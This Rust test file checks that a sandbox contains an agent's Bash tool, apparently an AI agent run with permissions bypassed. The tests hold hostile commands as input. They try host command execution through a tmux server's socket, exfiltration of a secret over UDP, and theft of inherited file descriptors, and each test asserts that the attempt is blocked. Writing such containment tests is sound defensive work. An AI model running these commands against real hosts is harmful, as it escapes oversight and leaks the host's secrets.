//! Hostile tests: Bash gets no channel that Landlock does not cover — no
//! Unix socket to a host service (a real tmux server here), no UDP, no
//! descriptor the host holds, and no host path in what it can see.
//!
//! The sockets live under `/var/tmp`, outside the `/tmp` that a namespaced
//! Bash has replaced with its own directory: what stops them there is the
//! seccomp filter, not the mount namespace.

use std::io::ErrorKind;
use std::os::fd::AsRawFd;
use std::os::unix::net::UnixListener;
use std::path::{Path, PathBuf};
use std::process::Command;

use crate::sandbox_support::{all, step, wait_done, Arena, SECRET};
use teamhost::tools::confine;

/// A directory for sockets outside `/tmp`, removed on drop.
fn socket_dir() -> tempfile::TempDir {
    let base = if Path::new("/var/tmp").is_dir() {
        PathBuf::from("/var/tmp")
    } else {
        std::env::temp_dir()
    };
    tempfile::Builder::new()
        .prefix("teamhost-hostile-")
        .tempdir_in(base)
        .unwrap()
}

/// A tmux server on a private socket, killed on drop.
struct Tmux {
    socket: PathBuf,
}

impl Tmux {
    fn start(socket: PathBuf) -> Tmux {
        let ok = Command::new("tmux")
            .arg("-S")
            .arg(&socket)
            .args(["new-session", "-d", "-s", "victim"])
            .status()
            .expect("tmux is installed (scripts/test installs it)");
        assert!(ok.success(), "tmux did not start");
        Tmux { socket }
    }

    /// Runs `command` through the server, as the host's user would.
    fn run_shell(&self, command: &str) -> bool {
        Command::new("tmux")
            .arg("-S")
            .arg(&self.socket)
            .args(["run-shell", command])
            .status()
            .map(|s| s.success())
            .unwrap_or(false)
    }
}

impl Drop for Tmux {
    fn drop(&mut self) {
        let _ = Command::new("tmux")
            .arg("-S")
            .arg(&self.socket)
            .arg("kill-server")
            .status();
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn bash_cannot_reach_a_tmux_server_or_any_unix_socket_of_the_host() {
    let a = Arena::new("unix-sockets").await;
    let dir = socket_dir();
    let tmux = Tmux::start(dir.path().join("tmux.sock"));
    let listener = UnixListener::bind(dir.path().join("service.sock")).unwrap();
    listener.set_nonblocking(true).unwrap();
    let marker = dir.path().join("pwned-through-tmux");
    let sock = tmux.socket.display();
    let service = dir.path().join("service.sock");
    let prompt = format!(
        "bash-run tmux -S {sock} run-shell 'touch {m}'\n\
         bash-run tmux -S {sock} send-keys -t victim 'touch {m}' Enter\n\
         bash-run tmux -S {svc} list-sessions",
        m = marker.display(),
        svc = service.display(),
    );
    // bypassPermissions: Bash runs without asking; only the kernel stands
    // between the command and the sockets.
    let name = a
        .spawn(crate::sandbox_support::hostile_request(
            "tmuxer",
            &prompt,
            &a.dir("tmuxer"),
            "bypassPermissions",
        ))
        .await;
    let got = wait_done(&a.f, &name, "bash-run", 3).await;
    for run in all(&got, "bash-run") {
        run.assert_bash_failed();
    }
    assert!(
        !marker.exists(),
        "a command ran through the host's tmux server"
    );
    match listener.accept() {
        Err(e) if e.kind() == ErrorKind::WouldBlock => {}
        other => panic!("Bash connected to a Unix socket of the host: {other:?}"),
    }
    // The server was there and would have obeyed anyone who could connect.
    let control = dir.path().join("control");
    assert!(tmux.run_shell(&format!("touch {}", control.display())));
    assert!(control.exists(), "the control command did not run");
    a.assert_contained().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn bash_cannot_send_udp() {
    let a = Arena::new("udp").await;
    let receiver = std::net::UdpSocket::bind("127.0.0.1:0").unwrap();
    receiver.set_nonblocking(true).unwrap();
    let port = receiver.local_addr().unwrap().port();
    let got = a
        .attack(
            "udper",
            "bypassPermissions",
            &format!("bash-run /bin/bash -c 'echo {SECRET} > /dev/udp/127.0.0.1/{port}'"),
        )
        .await;
    step(&got, "bash-run").assert_bash_failed();
    // A datagram on loopback is queued before `sendto` returns, and the
    // command has ended: had it been sent, it would be here.
    let mut buf = [0u8; 64];
    match receiver.recv(&mut buf) {
        Err(e) if e.kind() == ErrorKind::WouldBlock => {}
        other => panic!("a datagram left the sandbox: {other:?}"),
    }
    a.assert_contained().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn bash_inherits_no_descriptor_the_host_holds() {
    let a = Arena::new("fds").await;
    // The host holds the sentinel's secret open, inheritable (no
    // close-on-exec), as a careless library might.
    let secret = std::fs::File::open(a.sentinel.join("secret.txt")).unwrap();
    let fd = secret.as_raw_fd();
    // SAFETY: fcntl on a descriptor this test owns.
    unsafe {
        let flags = libc::fcntl(fd, libc::F_GETFD);
        assert!(flags >= 0);
        assert_eq!(libc::fcntl(fd, libc::F_SETFD, flags & !libc::FD_CLOEXEC), 0);
    }
    let got = a
        .attack(
            "fdthief",
            "bypassPermissions",
            &format!(
                "bash-run /bin/bash -c 'cat <&{fd}; for n in $(seq 3 255); do cat <&$n; done 2>/dev/null; true'"
            ),
        )
        .await;
    let run = step(&got, "bash-run");
    assert!(run.ok(), "{run:?}");
    run.assert_no_leak();
    assert!(run.detail.contains("Bad file descriptor"), "{run:?}");
    drop(secret);
    a.assert_contained().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn bash_sees_its_directory_at_the_virtual_root_and_no_host_path() {
    if !confine::namespaces() {
        eprintln!("no mount namespaces here (needs CAP_SYS_ADMIN): Bash sees its host path");
        return;
    }
    let a = Arena::new("host-paths-bash").await;
    let got = a
        .attack(
            "pwder",
            "bypassPermissions",
            "bash-run pwd; /bin/pwd; echo home=$HOME tmp=$TMPDIR; env; ls -d /tmp/*; cd .. && pwd",
        )
        .await;
    let run = step(&got, "bash-run");
    assert!(run.ok(), "{run:?}");
    assert!(
        run.detail.starts_with(&format!(
            "exit=0 timed_out=false stdout={root} {root} home={root} tmp={root}",
            root = confine::VIRTUAL_ROOT
        )),
        "{run:?}"
    );
    let host = a.f.tmp.path().display().to_string();
    assert!(
        !run.detail.contains(&host),
        "a host path reached the guest: {run:?}"
    );
    a.assert_contained().await;
}
